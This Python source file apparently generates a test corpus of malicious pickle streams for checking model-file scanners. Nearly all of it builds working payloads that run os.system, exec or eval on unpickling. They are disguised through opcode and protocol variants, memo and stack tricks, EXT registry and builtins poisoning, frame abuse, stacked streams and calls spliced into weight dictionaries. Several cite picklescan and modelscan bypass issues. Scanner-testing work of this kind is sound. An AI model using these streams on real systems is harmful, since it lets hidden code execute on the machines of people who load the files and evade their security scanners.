"""Streams that say the same thing in ways that readers take differently: frames, numbers, memo games, stacks, endings."""
import pickle
import pickletools
import struct

from assembler import EXPRESSION, PYTHON, SHELL, Build, Call, G, New, Raw, dump, emit, framed, global_line, line, short_text, stack_global, text, tiny

CALL = global_line("os", "system") + text(SHELL) + b"\x85R"
SYSTEM = G("os:system")


def frame(body, length=None):
    return b"\x95" + struct.pack("<Q", len(body) if length is None else length) + body


def empty():
    return emit(Call("types:SimpleNamespace"))


def opcodes():
    out = []

    def add(technique, name, data, *advisories):
        out.append((name, technique, list(advisories), data))

    t = "protocol and naming opcodes"
    add(t, "protocol 0 without header", b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR.")
    add(t, "protocol 0 unicode", b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR.")
    add(t, "protocol 1", b"cos\nsystem\nq\x00(U" + bytes([len(SHELL)]) + SHELL.encode() + b"tR.")
    add(t, "protocol 2", b"\x80\x02" + CALL + b".")
    add(t, "protocol 3", b"\x80\x03" + CALL + b".")
    add(t, "protocol 5", b"\x80\x05" + stack_global("os", "system") + text(SHELL) + b"\x85R.")
    add(t, "header in the middle", CALL[:11] + b"\x80\x04" + CALL[11:] + b".")
    add(t, "many headers", b"\x80\x02" * 50 + CALL + b".")
    add(t, "two protocols", b"\x80\x00\x80\x05" + CALL + b".")
    add(t, "python 2 name", dump(Call("__builtin__:eval", EXPRESSION), 2, "line"))
    add(t, "python 2 name protocol 4 claimed later", b"\x80\x02c__builtin__\nexec\n" + text(PYTHON) + b"\x85R\x80\x04.")
    add(t, "INST", b"(" + b"S'" + SHELL.encode() + b"'\nios\nsystem\n.")
    add(t, "OBJ", b"(" + global_line("os", "system") + text(SHELL) + b"o.")
    add(t, "NEWOBJ_EX", dump(Call(New("functools:partial", SYSTEM, SHELL, kwargs={}))))
    add(t, "NEWOBJ then call", dump(Call(New("functools:partial", SYSTEM, SHELL))))
    add(t, "STACK_GLOBAL computed name", dump(Raw(short_text("o" + "s") + emit(Call("builtins:str.lower", "SYSTEM")) + b"\x93" + emit((SHELL,)) + b"R")))
    add(t, "STACK_GLOBAL joined name", dump(Raw(emit(Call("builtins:str.join", "", ["o", "s"])) + emit(Call("builtins:str.join", "", ["sys", "tem"])) + b"\x93" + emit((SHELL,)) + b"R")))
    add(t, "STACK_GLOBAL sliced name", dump(Raw(short_text("os") + emit(Call("operator:getitem", ["system", "x"], 0)) + b"\x93" + emit((SHELL,)) + b"R")))
    add(t, "STACK_GLOBAL with binstrings", b"\x80\x04U\x02osU\x06system\x93" + text(SHELL) + b"\x85R.", )
    add(t, "STACK_GLOBAL with BINUNICODE8", b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack("<Q", 6) + b"system\x93" + text(SHELL) + b"\x85R.")
    add(t, "STACK_GLOBAL with V lines", b"\x80\x04Vo\\u0073\nVsy\\u0073tem\n\x93" + text(SHELL) + b"\x85R.")
    add(t, "STRING with escapes", b"S'o\\x73'\nS\"sys\\x74em\"\n\x93" + b"S'" + SHELL.encode() + b"'\n\x85R.")
    add(t, "STRING with spaces around", b"S  'os'  \nS'system'\n\x93(S'" + SHELL.encode() + b"'\ntR.")
    add(t, "names far from the opcode", b"\x80\x04" + short_text("os") + b"\x94" + short_text("system") + b"\x940" + b"0" + b"K\x010" * 200 + b"h\x00h\x01\x93" + text(SHELL) + b"\x85R.")
    add(t, "lone surrogate before", dump([1, Raw(b"X\x03\x00\x00\x00\xed\xa0\x80"), Call(SYSTEM, SHELL)]))

    t = "base 0 integers and text numbers"
    memo = b"\x80\x02" + text("os") + b"q\x0a0" + text("posix") + b"q\x100" + text("system") + b"q\x010"
    add(t, "GET 0x index", b"cos\nsystem\np16\n0cmath\nsqrt\np10\n0g0x10\n(S'" + SHELL.encode() + b"'\ntR.")
    add(t, "GET octal", b"cos\nsystem\np8\n0cmath\nsqrt\np10\n0g0o10\n(S'" + SHELL.encode() + b"'\ntR.")
    add(t, "GET spaces and sign", b"cos\nsystem\np8\n0g +8 \n(S'" + SHELL.encode() + b"'\ntR.")
    add(t, "GET underscore", b"cos\nsystem\np10\n0g1_0\n(S'" + SHELL.encode() + b"'\ntR.")
    add(t, "PUT spaces", b"cos\nsystem\np  7\n0g7\n(S'" + SHELL.encode() + b"'\ntR.")
    add(t, "INT hex argument", dump(Raw(stack_global("os", "spawnlp") + b"(I0x0\n" + text("sh") + text("sh") + text("-c") + text(SHELL) + b"tR")))
    add(t, "INT octal argument", dump(Raw(b"I0o17\n0" + CALL)))
    add(t, "LONG hex", b"L0x10L\n0" + CALL + b".")
    add(t, "INT underscore and sign", b"I+1_0\n0" + CALL + b".")
    add(t, "INT true", b"I01\n0" + CALL + b".")
    add(t, "FLOAT nan spellings", b"Finfinity\n0" + CALL + b".")
    add(t, "LONG1 of length 0", b"\x80\x02\x8a\x000" + CALL + b".")
    add(t, "LONG4 large", b"\x80\x02\x8b" + struct.pack("<i", 70000) + b"\x01" * 70000 + b"0" + CALL + b".")
    add(t, "INT with NUL-free junk sign", b"I-0x1\n0" + CALL + b".")

    t = "memo games"
    swap = text("torch._utils") + b"\x940" + text("_rebuild_tensor_v2") + b"\x940"
    add(t, "BINPUT then MEMOIZE", b"\x80\x04" + text("os") + b"q\x000" + text("system") + b"q\x010" + text("torch") + b"\x940" + text("Size") + b"\x940h\x00h\x01\x93" + text(SHELL) + b"\x85R.", "picklescan issue 14")
    add(t, "MEMOIZE then BINPUT over", b"\x80\x04" + swap + text("os") + b"q\x000" + text("system") + b"q\x010h\x00h\x01\x93" + text(SHELL) + b"\x85R.", "picklescan issue 22")
    add(t, "LONG_BINPUT over", b"\x80\x04" + swap + text("os") + b"r\x00\x00\x00\x000" + text("system") + b"r\x01\x00\x00\x000h\x00h\x01\x93" + text(SHELL) + b"\x85R.")
    add(t, "PUT text over", b"\x80\x04" + swap + text("os") + b"p0\n0" + text("system") + b"p1\n0h\x00h\x01\x93" + text(SHELL) + b"\x85R.")
    add(t, "sparse memo index", b"\x80\x04" + text("os") + b"r\xff\xff\x0f\x000" + text("system") + b"\x940j\xff\xff\x0f\x00h\x01\x93" + text(SHELL) + b"\x85R.")
    add(t, "MEMOIZE uses size not index", b"\x80\x04" + text("os") + b"q\x090" + text("system") + b"\x940h\x09h\x01\x93" + text(SHELL) + b"\x85R.")
    add(t, "function in the memo, called late", b"\x80\x04" + stack_global("os", "system") + b"\x940" + b"K\x010" * 1000 + b"h\x00" + text(SHELL) + b"\x85R.")
    add(t, "memoised result overwritten", b"\x80\x04" + stack_global("collections", "OrderedDict") + b"q\x000" + stack_global("os", "system") + b"q\x000h\x00" + text(SHELL) + b"\x85R.")
    add(t, "mutable list shared", dump(Raw(b"]q\x000" + stack_global("functools", "reduce") + stack_global("builtins", "exec") + b"h\x00" + emit(PYTHON) + b"a}a" + b"\x86R")))
    add(t, "dictionary shared and filled later", dump(Raw(b"}q\x000" + text("x") + b"q\x010" + stack_global("operator", "getitem") + b"h\x00h\x01" + b"h\x00h\x01" + stack_global("os", "system") + b"s0" + b"\x86R" + emit((SHELL,)) + b"R")))

    t = "stack games"
    add(t, "call then POP", dump(Raw(CALL + b"0N")))
    add(t, "call inside MARK and POP_MARK", dump(Raw(b"(" + CALL + b"1N")))
    add(t, "call under DUP", dump(Raw(stack_global("os", "system") + b"2" + emit((SHELL,)) + b"R0")))
    add(t, "POP of a MARK", dump(Raw(b"((0" + CALL + b"t")), "PickleFuzzer")
    add(t, "nested MARKs dropped", dump(Raw(b"(" + CALL + b"(((1111N")))
    add(t, "result as dictionary key", dump(Raw(b"}(" + CALL + b"K\x01u")))
    add(t, "result as set item", dump(Raw(b"\x8f(" + CALL + b"\x90")))
    add(t, "result in frozenset", dump(Raw(b"(" + CALL + b"\x91")))
    add(t, "DICT and LIST from MARK", dump(Raw(b"(" + b"K\x01" + CALL + b"d")))
    add(t, "LIST from MARK", dump(Raw(b"(" + CALL + b"l")))
    add(t, "arguments through LIST to tuple", dump(Raw(stack_global("os", "system") + stack_global("builtins", "tuple") + b"(" + text(SHELL) + b"l\x85RR")))
    add(t, "arguments from a dictionary view", dump(Raw(stack_global("os", "system") + stack_global("builtins", "tuple") + emit({SHELL: 1}) + b"\x85RR")))
    add(t, "leftovers below STOP", dump(Raw(CALL + b"K\x01")))
    add(t, "callable on the stack before a deep pile", dump(Raw(stack_global("os", "system") + b"N" * 500 + b"0" * 500 + emit((SHELL,)) + b"R")))

    t = "EXT registry"
    register = emit(Call("copyreg:add_extension", "os", "system", 240)) + b"0"
    add(t, "EXT1", b"\x80\x04" + register + b"\x82\xf0" + text(SHELL) + b"\x85R.")
    add(t, "EXT2", b"\x80\x04" + emit(Call("copyreg:add_extension", "os", "system", 1024)) + b"0\x83\x00\x04" + text(SHELL) + b"\x85R.")
    add(t, "EXT4", b"\x80\x04" + emit(Call("copyreg:add_extension", "os", "system", 70000)) + b"0\x84" + struct.pack("<i", 70000) + text(SHELL) + b"\x85R.")
    add(t, "EXT through the inverted table", b"\x80\x04" + emit(Call("copyreg:_inverted_registry.__setitem__", 77, ("os", "system"))) + b"0\x82\x4d" + text(SHELL) + b"\x85R.")
    add(t, "EXT through SETITEM", b"\x80\x04" + stack_global("copyreg", "_inverted_registry") + b"K\x4e" + emit(("os", "system")) + b"s0\x82\x4e" + text(SHELL) + b"\x85R.")
    add(t, "EXT cache poisoned", b"\x80\x04" + stack_global("copyreg", "_extension_cache") + b"K\x4f" + stack_global("os", "system") + b"s0\x82\x4f" + text(SHELL) + b"\x85R.")

    t = "methods that opcodes call"
    add(t, "BUILD installs __setstate__", dump(Build(Raw(empty()), {"__setstate__": SYSTEM}, SHELL)))
    add(t, "BUILD slots install __setstate__", dump(Build(Raw(empty()), (None, {"__setstate__": SYSTEM}), SHELL)))
    add(t, "BUILD of a class", dump(Build(Raw(emit(Build(G("argparse:Namespace"), (None, {"__setstate__": SYSTEM}))) + b")\x81"), SHELL)))
    add(t, "APPEND calls append", dump(Raw(emit(Build(Raw(empty()), {"append": SYSTEM})) + text(SHELL) + b"a")))
    add(t, "APPENDS calls append", dump(Raw(emit(Build(Raw(empty()), {"append": SYSTEM})) + b"(" + text(SHELL) + b"e")))
    add(t, "APPENDS calls extend", dump(Raw(emit(Build(Raw(empty()), {"extend": New("functools:partial", G("builtins:max"), kwargs={"key": SYSTEM}), "append": G("builtins:print")})) + b"(" + text(SHELL) + b"e")))
    add(t, "ADDITEMS calls add", dump(Raw(emit(Build(Raw(empty()), {"add": SYSTEM})) + b"(" + text(SHELL) + b"\x90")))
    add(t, "dynamic type __setstate__", dump(Build(Call(Call("builtins:type", "T", (), {"__setstate__": SYSTEM})), SHELL)))
    add(t, "dynamic type __setitem__", dump(Raw(emit(Call(Call("builtins:type", "T", (), {"__setitem__": G("builtins:exec")}))) + emit(PYTHON) + emit({}) + b"s")))
    add(t, "dynamic type __hash__", dump(Raw(b"}" + emit(Call(Call("builtins:type", "T", (), {"__hash__": Call("functools:partial", SYSTEM, SHELL)}))) + b"Ns")))
    add(t, "SETITEM on sys.modules", dump(Raw(stack_global("sys", "modules") + text("castellan_alias") + stack_global("logging", "os") + b"s0" + stack_global("castellan_alias", "system") + text(SHELL) + b"\x85R")))
    add(t, "BUILD on a module", dump(Raw(stack_global("logging", "os") + b"0" + emit(Build(Call("sys:modules.get", "math"), {"sqrt": SYSTEM})) + b"0" + stack_global("math", "sqrt") + text(SHELL) + b"\x85R")))
    add(t, "BUILD overwrites builtins", dump(Raw(emit(Build(Call("sys:modules.get", "builtins"), {"len": SYSTEM})) + b"0" + stack_global("builtins", "len") + text(SHELL) + b"\x85R")))
    add(t, "BUILD on a loaded class", dump(Raw(emit(Build(G("argparse:Namespace"), (None, {"__contains__": SYSTEM}))) + b"0" + emit(Call("operator:contains", Call("argparse:Namespace"), SHELL)))))
    add(t, "find_class hooks by SETITEM", dump(Raw(stack_global("builtins", "__dict__") + text("castellan") + stack_global("os", "system") + b"s0" + stack_global("builtins", "castellan") + text(SHELL) + b"\x85R")))
    named = emit(Build(G("functools:wraps"), (None, {"first": "os"}), (None, {"second": "system"}))) + b"0"
    add(t, "BUILD keeps names on a function", dump(Raw(named + stack_global("functools", "wraps.first") + stack_global("functools", "wraps.second") + b"\x93" + text(SHELL) + b"\x85R")), "modelscan issue 85")
    shaped = Call(G("numpy:size"), Build(G("numpy:size"), (None, {"shape": G("numpy:__builtins__")})), "eval")
    add(t, "BUILD gives a function a shape", dump(Call(shaped, EXPRESSION)), "modelscan issue 330")
    add(t, "names joined from single letters", dump(Call(Call("builtins:getattr", Call("importlib:import_module", Call("builtins:str.join", "", list("os"))), Call("builtins:str.join", "", list("system"))), SHELL)), "modelscan issue 331")
    add(t, "setattr", dump(Raw(emit(Call("builtins:setattr", Call("sys:modules.get", "math"), "sqrt", SYSTEM)) + b"0" + stack_global("math", "sqrt") + text(SHELL) + b"\x85R")))
    add(t, "name mapping poisoned", b"\x80\x02" + emit(Raw(global_line("_compat_pickle", "NAME_MAPPING") + text("math") + text("sqrt") + b"\x86" + text("os") + text("system") + b"\x86s0" + global_line("math", "sqrt") + text(SHELL) + b"\x85R")) + b".")
    add(t, "import mapping poisoned", b"\x80\x02" + global_line("_compat_pickle", "IMPORT_MAPPING") + text("castellan_alias") + text("posix") + b"s0" + global_line("castellan_alias", "system") + text(SHELL) + b"\x85R.")
    add(t, "defaultdict in SETITEMS", dump(Call(G("operator:getitem"), Call("collections:defaultdict", Call("functools:partial", SYSTEM, SHELL)), 1)))

    t = "frame boundaries"
    body = stack_global("os", "system") + text(SHELL) + b"\x85R."
    add(t, "frame exact", b"\x80\x04" + frame(body))
    add(t, "frame too short", b"\x80\x04" + frame(body, 20), "PickleFuzzer")
    add(t, "frame of length 0", b"\x80\x04" + frame(b"", 0) + body)
    add(t, "frame ends inside an opcode argument", b"\x80\x04" + frame(body, 5), "PickleFuzzer")
    add(t, "frame inside a frame", b"\x80\x04" + frame(frame(body)))
    add(t, "many frames", b"\x80\x04" + frame(stack_global("os", "system")) + frame(text(SHELL)) + frame(b"\x85R."))
    add(t, "frame in protocol 2", b"\x80\x02" + frame(body))
    add(t, "frame before header", frame(b"\x80\x04" + body))
    add(t, "call before a frame too long", b"\x80\x04" + CALL + b"\x95" + struct.pack("<Q", 2**40) + b"N.")
    add(t, "frame with STOP inside and bytes after", b"\x80\x04" + frame(body + b"N."))
    add(t, "frame length with high bit", b"\x80\x04" + CALL + b"\x95" + struct.pack("<Q", 2**63) + b".")

    t = "broken after the payload"
    for name, tail in {
        "missing STOP": b"", "invalid opcode": b"\xff", "truncated text": b"X\xff\xff\xff\x7fabc", "negative long": b"\x8b\xff\xff\xff\xff",
        "unknown memo": b"h\xfe.", "empty stack": b"0000000.", "bad INT": b"Ixyz\n.", "unknown protocol": b"\x80\x7f.", "bad persistent id": b"Q.",
        "bad utf8": b"X\x02\x00\x00\x00\xc3\x28.", "unterminated line": b"cnothing", "missing module": b"ccastellan_no_such_module\nx\n.",
        "REDUCE of a number": b"K\x01)R.", "buffer out of band": b"\x97.", "STRING without quotes": b"Sabc\n.", "zero bytes": b"\x00" * 64, "BYTEARRAY8 huge": b"\x96" + b"\xff" * 8, "EXT unknown": b"\x82\x01.",
        "readonly buffer": b"\x98.", "module not found by INST": b"(icastellan_none\ny\n.",
    }.items():
        add(t, name, b"\x80\x04" + CALL + tail, "nullifAI", "GHSA-9gvj-pp9x-gcfr", "CVE-2025-71325")

    t = "stacked streams and padding"
    good = pickle.dumps({"weights": [1.0, 2.0]}, 4)
    bad = dump(Call("os:system", SHELL))
    add(t, "second stream", good + bad)
    add(t, "hundredth stream", good * 100 + bad)
    add(t, "newline between", good + b"\n" + bad)
    add(t, "zero padding", good + b"\x00" * 512 + bad)
    add(t, "junk between", good + b"junk!" * 20 + bad)
    add(t, "page aligned", good + b"\x00" * (4096 - len(good)) + bad)
    add(t, "shared memo across streams", b"\x80\x04" + text("os") + b"\x940" + text("system") + b"\x94." + b"\x80\x04h\x00h\x01\x93" + text(SHELL) + b"\x85R.")
    add(t, "function in the shared memo", b"\x80\x04" + stack_global("os", "system") + b"\x940N." + b"h\x00" + text(SHELL) + b"\x85R.")
    add(t, "memo reset trick", b"\x80\x04" + text("os") + b"q\x000" + text("system") + b"q\x01." + b"\x80\x04" + text("math") + b"q\x020h\x00h\x01\x93" + text(SHELL) + b"\x85R.")
    add(t, "second stream protocol 0", good + b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR.")
    add(t, "payload first, harmless last", bad + good)
    add(t, "broken stream then payload", good + b"\xff\xff" + bad)
    add(t, "payload far behind", good + b"\x00" * 300000 + bad)

    t = "persistent ids"
    add(t, "BINPERSID of a call result", dump(Raw(CALL + b"Q")))
    add(t, "call inside a storage tuple", dump(Raw(b"(" + text("storage") + CALL + text("0") + text("cpu") + b"K\x01tQ")))

    t = "hidden in ordinary content"
    big = pickle.dumps({f"layer{i}": [float(j) for j in range(20)] for i in range(300)}, 2)
    add(t, "call spliced into a large dictionary", big[:-1] + b"0" + CALL + b".")
    add(t, "call at the start of a large dictionary", big[:2] + CALL + b"0" + big[2:])
    ops = [position for _, _, position in pickletools.genops(big)]
    add(t, "call spliced in the middle", big[: ops[len(ops) // 2]] + CALL + b"0" + big[ops[len(ops) // 2]:])
    add(t, "long innocent prefix", b"\x80\x04" + (stack_global("collections", "OrderedDict") + b")R0") * 5000 + CALL + b".")
    add(t, "state dict with a call as value", dump(Raw(stack_global("collections", "OrderedDict") + b")R(" + text("weight") + CALL + b"u")))
    add(t, "numpy scalar whose dtype is a call", dump(Call("numpy.core.multiarray:scalar", Raw(CALL), b"x")))
    add(t, "numpy _reconstruct of a subtype", dump(Call("numpy.core.multiarray:_reconstruct", Raw(CALL), (0,), b"b")))
    add(t, "call as BUILD state", dump(Build(Raw(empty()), {"x": Raw(CALL)})))
    add(t, "call as keyword", dump(New("types:SimpleNamespace", kwargs={"x": Raw(CALL)})))
    add(t, "OrderedDict items from a call", dump(Call("collections:OrderedDict", [["k", Raw(CALL)]])))
    add(t, "_reconstructor", dump(Call("copyreg:_reconstructor", Raw(CALL), G("builtins:object"), None)))
    add(t, "eval in exception argument", dump(Call("builtins:ValueError", Raw(emit(Call("builtins:eval", EXPRESSION))))))
    return out
